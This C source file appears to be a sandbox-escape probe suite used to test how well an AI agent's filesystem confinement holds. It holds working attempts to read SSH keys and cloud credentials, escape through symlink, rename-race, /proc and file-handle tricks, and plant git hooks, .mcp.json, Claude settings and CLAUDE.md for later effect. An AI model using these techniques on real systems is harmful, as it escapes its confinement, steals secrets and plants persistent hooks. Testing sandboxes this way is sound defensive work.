/* Files: reading what is not the agent's, writing where it does damage, ways around a path. */
#include "probe.h"
#include <dirent.h>
#include <sys/sysmacros.h>

static void ssh_key(void) { reveal_file(in("home", ".ssh/id_ed25519")); }
static void cloud_credentials(void) { reveal_file(in("home", ".aws/credentials")); }
static void env_file(void) { reveal_file(in("work", ".env")); }
static void host_tmp_read(void) { reveal_file(in("tmp", "secret")); }
static void state_read(void) { reveal_file(in("state", "secret")); }
static void symlink_read(void) { reveal_file(in("work", "link-secret")); }
static void symlink_write(void) { plant(in("work", "link-file")); }
static void host_tmp_write(void) { plant(in("tmp", "planted")); }
static void outside_write(void) { plant(in("outside", "file")); }
static void home_write(void) { plant(in("home", ".bashrc")); }
static void state_write(void) { plant(in("state", "policy")); }
static void program_write(void) { plant(in("bin", "agent")); }
static void git_hook(void) { plant(in("work", ".git/hooks/pre-commit")); }
static void git_config(void) { plant(in("work", ".git/config")); }
static void git_attributes(void) { plant(in("work", ".git/info/attributes")); }
static void nested_hook(void) { plant(in("work", "vendor/sub/.git/hooks/post-checkout")); }
static void agent_settings(void) { plant(in("work", ".claude/settings.json")); }
static void mcp_servers(void) { plant(in("work", ".mcp.json")); }
static void editor_task(void) { plant(in("work", ".vscode/tasks.json")); }
static void envrc(void) { plant(in("work", ".envrc")); }
static void agent_rules(void) { plant(in("work", "CLAUDE.md")); }
static void makefile(void) { plant(in("work", "Makefile")); }

static void list_home(void) {
    DIR *home = opendir(arg("home"));
    struct dirent *entry;
    while (home && (entry = readdir(home))) dprintf(1, "%s\n", entry->d_name);
}

/* Whether a name exists is a secret too. */
static void stat_name(void) {
    struct stat there, not_there;
    int found = !stat(in("home", ".ssh/id_ed25519"), &there) || errno == EACCES;
    int absent = stat(in("home", ".ssh/no-such-key"), &not_there) && errno == ENOENT;
    if (found && absent) proof();
}

static void rename_git(void) { rename(in("work", ".git"), in("work", "elsewhere")); }

static void hard_link(void) {
    if (link(in("outside", "file"), in("work", "hard"))) return;
    plant(in("work", "hard"));
}

static volatile int stop;
static void *flip(void *unused) {
    (void)unused;
    while (!stop) {
        rename(in("work", "dir-a"), in("work", "dir"));
        rename(in("work", "dir"), in("work", "dir-a"));
        rename(in("work", "dir-link"), in("work", "dir"));
        rename(in("work", "dir"), in("work", "dir-link"));
    }
    return NULL;
}

/* A directory of the workspace and a symbolic link to a host directory take turns under one name. */
static void rename_race(void) {
    pthread_t thread;
    mkdir(in("work", "dir-a"), 0755);
    if (symlink(arg("outside"), in("work", "dir-link"))) return;
    pthread_create(&thread, NULL, flip, NULL);
    for (long until = now_ms() + 500; now_ms() < until;) {
        char path[4096];
        snprintf(path, sizeof path, "%s/dir/file", arg("work"));
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0 && write(fd, "# MARKER planted\n", 17) < 0) break;
        if (fd >= 0) close(fd);
    }
    stop = 1;
    pthread_join(thread, NULL);
}

static void proc_self_root(void) {
    char path[8192];
    snprintf(path, sizeof path, "/proc/self/root/../../..%s/.ssh/id_ed25519", arg("home"));
    reveal_file(path);
    snprintf(path, sizeof path, "/proc/self/task/self/root%s/.ssh/id_ed25519", arg("home"));
    reveal_file(path);
}

static void dot_dot(void) {
    for (int depth = 0; depth < 40; depth++)
        if (chdir("..")) return;
    reveal_file(arg("home")[0] == '/' ? in("home", ".ssh/id_ed25519") + 1 : "");
}

static void inherited_file(void) { reveal(9); }

static void inherited_directory(void) {
    int fd = openat(8, in("home", ".ssh/id_ed25519") + 1, O_RDONLY);
    reveal(fd);
}

/* Standard input is a host file, opened for reading only. */
static void stdin_reopen(void) {
    int fd = open("/proc/self/fd/0", O_RDWR | O_APPEND);
    if (fd >= 0 && write(fd, "# MARKER planted\n", 17) < 0) perror("write");
}
static void stdin_chmod(void) { fchmod(0, 0777); }
static void stdin_parent(void) {
    char path[4200];
    ssize_t length = readlink("/proc/self/fd/0", path, 4000);
    if (length < 0) return;
    path[length] = 0;
    strcpy(strrchr(path, '/') + 1, "secret");
    reveal_file(path);
}

/* Standard error is a host log file, opened for appending. */
static void log_truncate(void) {
    if (ftruncate(2, 0)) return;
}

static void handle_open(void) {
    struct {
        struct file_handle head;
        unsigned char bytes[128];
    } file = {0};
    const char *hex = arg("handle");
    int type, used;
    if (sscanf(hex, "%d:%n", &type, &used) != 1) return;
    hex += used;
    file.head.handle_type = type;
    file.head.handle_bytes = strlen(hex) / 2;
    for (unsigned at = 0; at < file.head.handle_bytes && at < sizeof file.bytes; at++) {
        unsigned byte;
        sscanf(hex + at * 2, "%2x", &byte);
        file.head.f_handle[at] = byte;
    }
    int here = open(".", O_RDONLY | O_DIRECTORY);
    reveal(open_by_handle_at(here, &file.head, O_RDONLY));
}

/* The harness asks for the handle of a secret file, for the attack above. */
int handle(void) {
    struct {
        struct file_handle head;
        unsigned char bytes[128];
    } file = {{128, 0}, {0}};
    int mount;
    if (name_to_handle_at(AT_FDCWD, in("home", ".ssh/id_ed25519"), &file.head, &mount, 0)) return 1;
    printf("%d:", file.head.handle_type);
    for (unsigned at = 0; at < file.head.handle_bytes; at++) printf("%02x", file.head.f_handle[at]);
    puts("");
    return 0;
}

/* The disk that the workspace lies on, as a device node. */
static void device_node(void) {
    struct stat here;
    char block[4096];
    if (stat(".", &here)) return;
    unlink(in("work", "disk"));
    if (mknod(in("work", "disk"), S_IFBLK | 0600, here.st_dev)) return;
    int fd = open(in("work", "disk"), O_RDONLY);
    if (fd >= 0 && read(fd, block, sizeof block) > 0) proof();
    unlink(in("work", "disk"));
}

const struct attack fs_attacks[] = {
    {"fs.ssh_key", ssh_key},
    {"fs.cloud_credentials", cloud_credentials},
    {"fs.env_file", env_file},
    {"fs.list_home", list_home},
    {"fs.stat_name", stat_name},
    {"fs.host_tmp_read", host_tmp_read},
    {"fs.host_tmp_write", host_tmp_write},
    {"fs.outside_write", outside_write},
    {"fs.home_write", home_write},
    {"fs.state_read", state_read},
    {"fs.state_write", state_write},
    {"fs.program_write", program_write},
    {"fs.symlink_read", symlink_read},
    {"fs.symlink_write", symlink_write},
    {"fs.hard_link", hard_link},
    {"fs.rename_race", rename_race},
    {"fs.proc_self_root", proc_self_root},
    {"fs.dot_dot", dot_dot},
    {"fs.inherited_file", inherited_file},
    {"fs.inherited_directory", inherited_directory},
    {"fs.stdin_reopen", stdin_reopen},
    {"fs.stdin_chmod", stdin_chmod},
    {"fs.stdin_parent", stdin_parent},
    {"fs.log_truncate", log_truncate},
    {"fs.handle_open", handle_open},
    {"fs.device_node", device_node},
    {"later.git_hook", git_hook},
    {"later.git_config", git_config},
    {"later.git_attributes", git_attributes},
    {"later.nested_hook", nested_hook},
    {"later.rename_git", rename_git},
    {"later.agent_settings", agent_settings},
    {"later.mcp_servers", mcp_servers},
    {"later.editor_task", editor_task},
    {"later.envrc", envrc},
    {"later.agent_rules", agent_rules},
    {"later.makefile", makefile},
    {0},
};
